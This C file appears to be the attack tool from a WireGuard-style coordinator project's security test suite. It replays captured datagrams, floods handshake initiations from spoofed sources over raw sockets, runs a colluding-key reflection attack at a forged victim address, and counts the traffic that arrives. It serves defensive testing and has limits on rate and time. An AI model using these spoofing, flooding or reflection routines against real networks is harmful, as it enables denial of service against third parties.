/* SPDX-License-Identifier: MIT */
/*
 * wgattack - the attacker of the security tests (tests/netns/test-attack-*.sh). Every mode is
 * bounded in count and time, and sends forged sources with a raw IPv4 socket (IPPROTO_RAW,
 * which implies IP_HDRINCL). It speaks the real protocol through the project's lib modules, so
 * what it sends is exactly what the coordinator would accept from a node, or one bit short.
 *
 *   wgattack replay --src IP[:PORT] --to IP --ports P[,P...] FILE
 *	Sends every datagram of FILE (lines "SPORT DPORT HEX", as captured) to every port, from
 *	IP (with the captured source port unless PORT is given). Prints how many it sent.
 *   wgattack flood --to IP:PORT --coord-pub KEY --rate N --seconds S
 *		    [--src IP[:PORT] | --random-src] [--bad-mac1] [--noise]
 *	Junk HS_INITs at N a second, by sendmmsg batches: random bodies with a valid mac1 (anyone
 *	knows the coordinator's key), or a wrong one (--bad-mac1), or real Noise messages under
 *	throw-away keys with a fresh timestamp (--noise). Sources: random in 198.18.0.0/15
 *	(--random-src) or IP with random ports (or PORT). Prints the rate achieved.
 *   wgattack collude --coord IP:PORT --coord-pub KEY --keys N --victim IP:PORT --seconds S
 *		    --rate R
 *	N throw-away keys that list each other register from this host; then authentic DATA
 *	(REGISTER with RESYNC) and authentic PROBEs of those sessions go to the coordinator
 *	from the victim's forged source, R a second. Prints the bytes sent at the victim's name.
 *   wgattack sink --from IP --seconds S
 *	Counts the UDP datagrams and payload bytes arriving from IP (AF_PACKET, every port).
 *
 * Exit status: 0, 1 on failure, 2 on a usage error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sodium.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "wgpunch/addr.h"
#include "wgpunch/cookie.h"
#include "wgpunch/key.h"
#include "wgpunch/proto.h"
#include "wgpunch/session.h"

#define BATCH 64
#define MAX_KEYS 200
#define MAX_LINES 4096
#define PKT_MAX (sizeof(struct iphdr) + sizeof(struct udphdr) + PROTO_MAX_DATAGRAM)

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

static void sleep_s(double s)
{
	struct timespec ts;

	if (s <= 0)
		return;
	ts.tv_sec = (time_t)s;
	ts.tv_nsec = (long)((s - (double)ts.tv_sec) * 1e9);
	nanosleep(&ts, NULL);
}

static int usage(void)
{
	fprintf(stderr, "usage: see the header of tests/tools/wgattack.c\n");
	return 2;
}

static int parse_v4(const char *s, struct addr *a, bool allow_port0)
{
	if (addr_parse(a, s, allow_port0) < 0 || addr_family(a) != AF_INET) {
		/* A bare IP: port 0. */
		struct in_addr ip;

		if (inet_pton(AF_INET, s, &ip) != 1)
			return -1;
		memset(a, 0, sizeof(*a));
		a->in4.sin_family = AF_INET;
		a->in4.sin_addr = ip;
	}
	return 0;
}

/* ---- raw sending ---- */

struct raw {
	int fd;
	struct mmsghdr msgs[BATCH];
	struct iovec iov[BATCH];
	struct sockaddr_in dst[BATCH];
	uint8_t pkt[BATCH][PKT_MAX];
	unsigned int n, batch; /* flush at batch datagrams (1 to BATCH) */
	unsigned long sent, bytes, errors;
};

static int raw_open(struct raw *r)
{
	int one = 1;

	memset(r, 0, sizeof(*r));
	r->batch = BATCH;
	r->fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (r->fd < 0 || setsockopt(r->fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		perror("raw socket");
		return -1;
	}
	return 0;
}

static void raw_flush(struct raw *r)
{
	unsigned int done = 0;

	while (done < r->n) {
		int k = sendmmsg(r->fd, r->msgs + done, r->n - done, 0);

		if (k <= 0) {
			r->errors++; /* ENOBUFS under a flood: that datagram is lost, go on */
			done++;
			continue;
		}
		for (int i = 0; i < k; i++)
			r->bytes += r->iov[done + i].iov_len - sizeof(struct iphdr) -
				    sizeof(struct udphdr);
		r->sent += (unsigned long)k;
		done += (unsigned int)k;
	}
	r->n = 0;
}

/* Queues one datagram from src to dst; the kernel fills the IP checksum and id. */
static void raw_queue(struct raw *r, const struct addr *src, const struct addr *dst,
		      const uint8_t *payload, size_t len)
{
	uint8_t *p = r->pkt[r->n];
	struct iphdr *ip = (struct iphdr *)p;
	struct udphdr *udp = (struct udphdr *)(p + sizeof(*ip));

	memset(ip, 0, sizeof(*ip) + sizeof(*udp));
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->saddr = src->in4.sin_addr.s_addr;
	ip->daddr = dst->in4.sin_addr.s_addr;
	ip->tot_len = htons((uint16_t)(sizeof(*ip) + sizeof(*udp) + len));
	udp->source = src->in4.sin_port;
	udp->dest = dst->in4.sin_port;
	udp->len = htons((uint16_t)(sizeof(*udp) + len));
	udp->check = 0; /* none: allowed for IPv4 */
	memcpy(p + sizeof(*ip) + sizeof(*udp), payload, len);

	r->dst[r->n] = dst->in4;
	r->iov[r->n].iov_base = p;
	r->iov[r->n].iov_len = sizeof(*ip) + sizeof(*udp) + len;
	memset(&r->msgs[r->n], 0, sizeof(r->msgs[r->n]));
	r->msgs[r->n].msg_hdr.msg_iov = &r->iov[r->n];
	r->msgs[r->n].msg_hdr.msg_iovlen = 1;
	r->msgs[r->n].msg_hdr.msg_name = &r->dst[r->n];
	r->msgs[r->n].msg_hdr.msg_namelen = sizeof(r->dst[r->n]);
	if (++r->n >= r->batch)
		raw_flush(r);
}

/* ---- replay ---- */

static int hexval(int c)
{
	if (c >= '0' && c <= '9')
		return c - '0';
	if (c >= 'a' && c <= 'f')
		return c - 'a' + 10;
	if (c >= 'A' && c <= 'F')
		return c - 'A' + 10;
	return -1;
}

static int cmd_replay(int argc, char **argv)
{
	const char *src_s = NULL, *to_s = NULL, *ports_s = NULL, *file = NULL;
	uint16_t ports[16];
	unsigned int n_ports = 0, lines = 0;
	struct addr src, to;
	char line[4 * PROTO_MAX_DATAGRAM];
	struct raw *r;
	FILE *f;

	for (int i = 0; i < argc; i++) {
		if (!strcmp(argv[i], "--src") && i + 1 < argc)
			src_s = argv[++i];
		else if (!strcmp(argv[i], "--to") && i + 1 < argc)
			to_s = argv[++i];
		else if (!strcmp(argv[i], "--ports") && i + 1 < argc)
			ports_s = argv[++i];
		else if (!file)
			file = argv[i];
		else
			return usage();
	}
	if (!src_s || !to_s || !ports_s || !file || parse_v4(src_s, &src, true) < 0 ||
	    parse_v4(to_s, &to, true) < 0)
		return usage();
	for (char *save = NULL, *tok = strtok_r((char *)ports_s, ",", &save); tok && n_ports < 16;
	     tok = strtok_r(NULL, ",", &save))
		ports[n_ports++] = (uint16_t)atoi(tok);
	f = fopen(file, "r");
	r = malloc(sizeof(*r));
	if (!f || !r || raw_open(r) < 0) {
		perror(file);
		return 1;
	}
	while (lines < MAX_LINES && fgets(line, sizeof(line), f)) {
		unsigned int sport, dport;
		uint8_t buf[PROTO_MAX_DATAGRAM];
		char hex[sizeof(line)];
		size_t len = 0;
		struct addr from = src;

		if (sscanf(line, "%u %u %s", &sport, &dport, hex) != 3)
			continue;
		for (size_t j = 0; hex[j] && hex[j + 1] && len < sizeof(buf); j += 2)
			buf[len++] = (uint8_t)(hexval(hex[j]) << 4 | hexval(hex[j + 1]));
		if (!addr_port(&from))
			addr_set_port(&from, (uint16_t)sport);
		for (unsigned int p = 0; p < n_ports; p++) {
			struct addr dst = to;

			addr_set_port(&dst, ports[p]);
			raw_queue(r, &from, &dst, buf, len);
		}
		lines++;
		raw_flush(r); /* in capture order, paced a little like the original */
		sleep_s(0.0005);
	}
	raw_flush(r);
	fclose(f);
	printf("replay: %u captured datagrams, %lu sent (%lu bytes) to %u ports from %s, %lu "
	       "errors\n",
	       lines, r->sent, r->bytes, n_ports, src_s, r->errors);
	free(r);
	return lines ? 0 : 1;
}

/* ---- flood ---- */

static void random_src(struct addr *a, const struct addr *fixed, bool random_ip)
{
	uint32_t v = randombytes_random();

	if (random_ip) {
		memset(a, 0, sizeof(*a));
		a->in4.sin_family = AF_INET;
		/* 198.18.0.0/15, past the tunnel /24 the test bed uses. */
		a->in4.sin_addr.s_addr = htonl(0xc6120000u | 0x100u | (v & 0x1feffu));
	} else {
		*a = *fixed;
	}
	if (!fixed || !addr_port(fixed) || random_ip)
		addr_set_port(a, (uint16_t)(1024 + (v >> 17) % 64000));
}

static ssize_t make_junk(uint8_t *buf, const struct cookie_keys *ck, bool bad_mac1, bool noise,
			 const uint8_t coord_pub[32])
{
	struct proto_outer o = { .type = PROTO_HS_INIT };
	uint8_t body[PROTO_HS_INIT_NOISE_LEN];
	ssize_t n;

	randombytes_buf(body, sizeof(body));
	if (noise) {
		struct session_hs hs;
		uint8_t s[32], e[32], ts[PROTO_TIMESTAMP_LEN];
		struct timespec now;

		clock_gettime(CLOCK_REALTIME, &now);
		key_generate_private(s);
		key_generate_private(e);
		session_tai64n(ts, now.tv_sec, (uint32_t)now.tv_nsec);
		if (session_hs_init(&hs, true, (const uint8_t *)SESSION_PROLOGUE,
				    strlen(SESSION_PROLOGUE), s, coord_pub) < 0 ||
		    session_hs_write_msg1(&hs, e, ts, sizeof(ts), body, sizeof(body)) !=
			    (ssize_t)sizeof(body))
			return -1;
	}
	o.sender_idx = randombytes_random();
	o.body = body;
	o.body_len = sizeof(body);
	n = proto_encode_outer(buf, PROTO_MAX_DATAGRAM, &o);
	if (n != PROTO_HS_INIT_LEN)
		return -1;
	if (bad_mac1)
		randombytes_buf(buf + PROTO_HS_INIT_MAC1_OFF, PROTO_MAC_LEN);
	else
		cookie_mac1(ck, buf, PROTO_HS_INIT_MAC1_OFF, buf + PROTO_HS_INIT_MAC1_OFF);
	return n;
}

#define JUNK_POOL 1024

static int cmd_flood(int argc, char **argv)
{
	const char *to_s = NULL, *pub_s = NULL, *src_s = NULL;
	bool random_ip = false, bad_mac1 = false, noise = false;
	double rate = 0, seconds = 0, t0, elapsed;
	uint8_t coord_pub[32];
	static uint8_t pool[JUNK_POOL][PROTO_HS_INIT_LEN];
	struct cookie_keys ck;
	struct addr to, fixed = { 0 };
	unsigned long want;
	struct raw *r;

	for (int i = 0; i < argc; i++) {
		if (!strcmp(argv[i], "--to") && i + 1 < argc)
			to_s = argv[++i];
		else if (!strcmp(argv[i], "--coord-pub") && i + 1 < argc)
			pub_s = argv[++i];
		else if (!strcmp(argv[i], "--src") && i + 1 < argc)
			src_s = argv[++i];
		else if (!strcmp(argv[i], "--rate") && i + 1 < argc)
			rate = atof(argv[++i]);
		else if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
			seconds = atof(argv[++i]);
		else if (!strcmp(argv[i], "--random-src"))
			random_ip = true;
		else if (!strcmp(argv[i], "--bad-mac1"))
			bad_mac1 = true;
		else if (!strcmp(argv[i], "--noise"))
			noise = true;
		else
			return usage();
	}
	if (!to_s || !pub_s || rate <= 0 || seconds <= 0 || seconds > 120 ||
	    (!src_s && !random_ip) || parse_v4(to_s, &to, false) < 0 ||
	    key_from_base64(coord_pub, pub_s) < 0 || (src_s && parse_v4(src_s, &fixed, true) < 0))
		return usage();
	cookie_keys_init(&ck, coord_pub);
	r = malloc(sizeof(*r));
	if (!r || raw_open(r) < 0)
		return 1;
	if (!noise)
		for (unsigned int i = 0; i < JUNK_POOL; i++)
			if (make_junk(pool[i], &ck, bad_mac1, false, coord_pub) < 0)
				return 1;

	/* Batches of about half a millisecond: a slow flood is spread evenly, as a limiter that
	 * refills between bursts would otherwise let everything else through. */
	r->batch = rate / 2000 < 1 ? 1 : rate / 2000 > BATCH ? BATCH : (unsigned int)(rate / 2000);
	want = (unsigned long)(rate * seconds);
	t0 = now_s();
	for (unsigned long i = 0; i < want; i++) {
		uint8_t fresh[PROTO_MAX_DATAGRAM];
		const uint8_t *msg = pool[i % JUNK_POOL];
		struct addr src;
		double ahead;

		if (noise) {
			if (make_junk(fresh, &ck, bad_mac1, true, coord_pub) < 0)
				return 1;
			msg = fresh;
		}
		random_src(&src, src_s ? &fixed : NULL, random_ip);
		raw_queue(r, &src, &to, msg, PROTO_HS_INIT_LEN);
		/* Pace by batch: ahead of the schedule, wait; behind it, go as fast as we can. */
		if (r->n == 0) {
			ahead = t0 + (double)(i + 1) / rate - now_s();
			sleep_s(ahead);
			if (now_s() - t0 >= seconds)
				break; /* bounded in time: behind the schedule, fewer are sent */
		}
	}
	raw_flush(r);
	elapsed = now_s() - t0;
	printf("flood: %lu junk HS_INIT (%s%s) sent in %.2f s: %.0f/s (asked %.0f/s), %lu send "
	       "errors\n",
	       r->sent, noise ? "Noise under throw-away keys" : "random body",
	       bad_mac1 ? ", bad mac1" : ", valid mac1", elapsed, (double)r->sent / elapsed, rate,
	       r->errors);
	want = r->sent;
	free(r);
	return want ? 0 : 1;
}

/* ---- collude ---- */

struct colluder {
	int fd;
	uint8_t priv[32], pub[32];
	struct cookie_initiator ci;
	struct session_keys keys;
	uint8_t probe_key[SESSION_KEY_LEN];
	uint32_t local_idx, remote_idx;
	uint64_t tx, probe_seq[PROTO_PROBE_PURPOSES];
	uint16_t port;
	bool up;
};

static int colluder_send_init(struct colluder *c, const uint8_t coord_pub[32],
			      struct session_hs *hs)
{
	uint8_t e[32], ts[PROTO_TIMESTAMP_LEN], noise[PROTO_HS_INIT_NOISE_LEN];
	uint8_t buf[PROTO_MAX_DATAGRAM];
	struct proto_outer o = { .type = PROTO_HS_INIT };
	struct timespec now;
	ssize_t n;

	clock_gettime(CLOCK_REALTIME, &now);
	key_generate_private(e);
	session_tai64n(ts, now.tv_sec, (uint32_t)now.tv_nsec);
	if (session_hs_init(hs, true, (const uint8_t *)SESSION_PROLOGUE, strlen(SESSION_PROLOGUE),
			    c->priv, coord_pub) < 0 ||
	    session_hs_write_msg1(hs, e, ts, sizeof(ts), noise, sizeof(noise)) != sizeof(noise))
		return -1;
	c->local_idx = randombytes_random();
	o.sender_idx = c->local_idx;
	o.body = noise;
	o.body_len = sizeof(noise);
	n = proto_encode_outer(buf, sizeof(buf), &o);
	if (n < 0 || cookie_initiator_sign(&c->ci, buf, (size_t)n, (uint64_t)(now_s() * 1000)) < 0)
		return -1;
	return send(c->fd, buf, (size_t)n, 0) == n ? 0 : -1;
}

/* Handshake, with one cookie round if the coordinator asks for it. */
static int colluder_handshake(struct colluder *c, const uint8_t coord_pub[32])
{
	struct session_hs hs;

	for (int attempt = 0; attempt < 6 && !c->up; attempt++) {
		struct pollfd pfd = { .fd = c->fd, .events = POLLIN };
		uint8_t buf[PROTO_MAX_DATAGRAM];
		struct proto_outer o;
		ssize_t n;

		if (colluder_send_init(c, coord_pub, &hs) < 0)
			return -1;
		if (poll(&pfd, 1, 1000) <= 0)
			continue;
		n = recv(c->fd, buf, sizeof(buf), 0);
		if (n <= 0 || proto_decode_outer(buf, (size_t)n, &o) < 0)
			continue;
		if (o.type == PROTO_COOKIE_REPLY) {
			cookie_initiator_open_reply(&c->ci, o.body, o.body_len,
						    (uint64_t)(now_s() * 1000));
			continue; /* the next HS_INIT carries mac2 */
		}
		if (o.type != PROTO_HS_RESP || o.receiver_idx != c->local_idx ||
		    session_hs_read_msg2(&hs, o.body, o.body_len, NULL, 0) < 0)
			continue;
		session_hs_split(&hs, &c->keys);
		session_probe_key(&c->keys, c->probe_key);
		c->remote_idx = o.sender_idx;
		c->up = true;
	}
	return c->up ? 0 : -1;
}

static ssize_t colluder_data(struct colluder *c, const struct proto_msg *m, uint8_t *out)
{
	uint8_t pt[PROTO_MAX_DATAGRAM], ct[PROTO_MAX_DATAGRAM] = { 0 };
	struct proto_outer o = { .type = PROTO_DATA };
	ssize_t n = proto_encode_msg(pt, sizeof(pt) - PROTO_TAG_LEN - 16, m);
	size_t clen;

	if (n < 0)
		return -1;
	o.receiver_idx = c->remote_idx;
	o.counter = c->tx++;
	o.body = ct;
	o.body_len = (size_t)n + PROTO_TAG_LEN;
	/* The prefix is the associated data: encode once for it, then again with the body. */
	if (proto_encode_outer(out, PROTO_MAX_DATAGRAM, &o) < 0)
		return -1;
	clen = session_encrypt(c->keys.send, o.counter, out, 16, pt, (size_t)n, ct);
	o.body_len = clen;
	return proto_encode_outer(out, PROTO_MAX_DATAGRAM, &o);
}

static ssize_t colluder_probe(struct colluder *c, uint16_t dst_port, uint8_t purpose, uint8_t *out)
{
	struct proto_outer o = { .type = PROTO_PROBE };
	uint8_t mac[PROTO_PROBE_MAC_LEN] = { 0 };
	size_t pre = proto_outer_prefix_len(PROTO_PROBE);
	ssize_t n;

	o.receiver_idx = c->remote_idx;
	o.counter = ++c->probe_seq[purpose];
	o.dst_port = dst_port;
	o.purpose = purpose;
	o.body = mac;
	o.body_len = sizeof(mac);
	n = proto_encode_outer(out, PROTO_MAX_DATAGRAM, &o);
	if (n < 0)
		return -1;
	session_probe_mac(c->probe_key, out, pre, out + pre);
	return n;
}

static void colluders_drain(struct colluder *cs, unsigned int n)
{
	uint8_t buf[PROTO_MAX_DATAGRAM];

	for (unsigned int i = 0; i < n; i++)
		while (recv(cs[i].fd, buf, sizeof(buf), MSG_DONTWAIT) > 0)
			;
}

static int cmd_collude(int argc, char **argv)
{
	const char *coord_s = NULL, *pub_s = NULL, *victim_s = NULL;
	unsigned int n_keys = 0, n_up = 0;
	double seconds = 0, rate = 0, t0;
	uint8_t coord_pub[32];
	struct addr coord, victim;
	static struct colluder cs[MAX_KEYS];
	uint64_t fps[MAX_KEYS];
	unsigned long round = 0;
	uint32_t seq = 1;
	struct raw *r;

	for (int i = 0; i < argc; i++) {
		if (!strcmp(argv[i], "--coord") && i + 1 < argc)
			coord_s = argv[++i];
		else if (!strcmp(argv[i], "--coord-pub") && i + 1 < argc)
			pub_s = argv[++i];
		else if (!strcmp(argv[i], "--victim") && i + 1 < argc)
			victim_s = argv[++i];
		else if (!strcmp(argv[i], "--keys") && i + 1 < argc)
			n_keys = (unsigned int)atoi(argv[++i]);
		else if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
			seconds = atof(argv[++i]);
		else if (!strcmp(argv[i], "--rate") && i + 1 < argc)
			rate = atof(argv[++i]);
		else
			return usage();
	}
	if (!coord_s || !pub_s || !victim_s || n_keys < 2 || n_keys > MAX_KEYS || seconds <= 0 ||
	    seconds > 60 || rate <= 0 || parse_v4(coord_s, &coord, false) < 0 ||
	    parse_v4(victim_s, &victim, false) < 0 || key_from_base64(coord_pub, pub_s) < 0)
		return usage();
	r = malloc(sizeof(*r));
	if (!r || raw_open(r) < 0)
		return 1;

	for (unsigned int i = 0; i < n_keys; i++) {
		struct colluder *c = &cs[i];
		struct sockaddr_in sin;
		socklen_t sl = sizeof(sin);

		key_generate_private(c->priv);
		key_public_from_private(c->pub, c->priv);
		fps[i] = key_fingerprint(c->pub);
		cookie_initiator_init(&c->ci, coord_pub);
		c->fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (c->fd < 0 || connect(c->fd, &coord.sa, addr_len(&coord)) < 0 ||
		    getsockname(c->fd, (struct sockaddr *)&sin, &sl) < 0) {
			perror("colluder socket");
			return 1;
		}
		c->port = ntohs(sin.sin_port);
	}
	/* Every key lists every other one: their pairs all consent. */
	for (unsigned int i = 0; i < n_keys; i++) {
		struct colluder *c = &cs[i];
		struct proto_msg m = { .type = PROTO_MSG_REGISTER };
		uint8_t buf[PROTO_MAX_DATAGRAM];
		ssize_t n;

		if (colluder_handshake(c, coord_pub) < 0)
			continue;
		m.reg.seq = seq++;
		m.reg.wg_port = c->port;
		m.reg.n_pages = 1;
		for (unsigned int j = 0; j < n_keys && m.reg.n_peers < PROTO_MAX_PEERS; j++)
			if (j != i)
				m.reg.peers[m.reg.n_peers++] = fps[j];
		n = colluder_data(c, &m, buf);
		if (n > 0 && send(c->fd, buf, (size_t)n, 0) == n)
			n_up++;
	}
	fprintf(stderr, "collude: %u of %u keys have a session and registered\n", n_up, n_keys);
	sleep_s(1);
	colluders_drain(cs, n_keys);
	if (n_up < 2)
		return 1;

	r->batch = rate / 2000 < 1 ? 1 : rate / 2000 > BATCH ? BATCH : (unsigned int)(rate / 2000);
	/* The attack: each round, every colluder sends one authentic DATA (REGISTER, RESYNC) and
	 * one authentic PROBE to each port, from the victim's address. */
	t0 = now_s();
	while (now_s() - t0 < seconds) {
		for (unsigned int i = 0; i < n_keys; i++) {
			struct colluder *c = &cs[i];
			struct proto_msg m = { .type = PROTO_MSG_REGISTER };
			uint8_t buf[PROTO_MAX_DATAGRAM];
			struct addr dst = coord;
			ssize_t n;

			if (!c->up)
				continue;
			m.reg.seq = seq++;
			m.reg.wg_port = addr_port(&victim);
			m.reg.flags = PROTO_REG_F_RESYNC;
			m.reg.n_pages = 1;
			for (unsigned int j = 0; j < n_keys && m.reg.n_peers < PROTO_MAX_PEERS; j++)
				if (j != i)
					m.reg.peers[m.reg.n_peers++] = fps[j];
			n = colluder_data(c, &m, buf);
			if (n > 0)
				raw_queue(r, &victim, &coord, buf, (size_t)n);
			for (uint8_t p = 0; p < 2; p++) {
				addr_set_port(&dst, (uint16_t)(addr_port(&coord) + p));
				n = colluder_probe(c, addr_port(&dst), p, buf);
				if (n > 0)
					raw_queue(r, &victim, &dst, buf, (size_t)n);
			}
			round++;
			if (r->n == 0) {
				colluders_drain(cs, n_keys);
				sleep_s(t0 + (double)round * 3 / rate - now_s());
			}
		}
	}
	raw_flush(r);
	colluders_drain(cs, n_keys);
	printf("collude: %u keys, %lu datagrams (%lu bytes) sent from the victim's address %s in "
	       "%.1f s\n",
	       n_up, r->sent, r->bytes, victim_s, now_s() - t0);
	printf("SENT_BYTES %lu\n", r->bytes);
	free(r);
	return 0;
}

/* ---- sink ---- */

static int cmd_sink(int argc, char **argv)
{
	const char *from_s = NULL;
	double seconds = 0, t0;
	unsigned long n = 0, bytes = 0;
	struct in_addr from;
	int fd;

	for (int i = 0; i < argc; i++) {
		if (!strcmp(argv[i], "--from") && i + 1 < argc)
			from_s = argv[++i];
		else if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
			seconds = atof(argv[++i]);
		else
			return usage();
	}
	if (!from_s || inet_pton(AF_INET, from_s, &from) != 1 || seconds <= 0 || seconds > 120)
		return usage();
	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (fd < 0) {
		perror("AF_PACKET");
		return 1;
	}
	printf("READY\n");
	fflush(stdout);
	t0 = now_s();
	while (now_s() - t0 < seconds) {
		struct pollfd pfd = { .fd = fd, .events = POLLIN };
		uint8_t pkt[65536];
		struct sockaddr_ll sll;
		socklen_t sl = sizeof(sll);
		const struct iphdr *ip = (const struct iphdr *)pkt;
		ssize_t len;

		if (poll(&pfd, 1, 100) <= 0)
			continue;
		len = recvfrom(fd, pkt, sizeof(pkt), 0, (struct sockaddr *)&sll, &sl);
		if (len < (ssize_t)(sizeof(*ip) + sizeof(struct udphdr)) ||
		    sll.sll_pkttype == PACKET_OUTGOING || ip->protocol != IPPROTO_UDP ||
		    ip->saddr != from.s_addr)
			continue;
		n++;
		bytes += (unsigned long)len - ip->ihl * 4u - sizeof(struct udphdr);
	}
	printf("sink: %lu datagrams, %lu bytes from %s\n", n, bytes, from_s);
	printf("RECV_BYTES %lu\n", bytes);
	close(fd);
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (sodium_init() < 0)
		return 1;
	if (argc < 2)
		return usage();
	if (!strcmp(argv[1], "replay"))
		return cmd_replay(argc - 2, argv + 2);
	if (!strcmp(argv[1], "flood"))
		return cmd_flood(argc - 2, argv + 2);
	if (!strcmp(argv[1], "collude"))
		return cmd_collude(argc - 2, argv + 2);
	if (!strcmp(argv[1], "sink"))
		return cmd_sink(argc - 2, argv + 2);
	return usage();
}
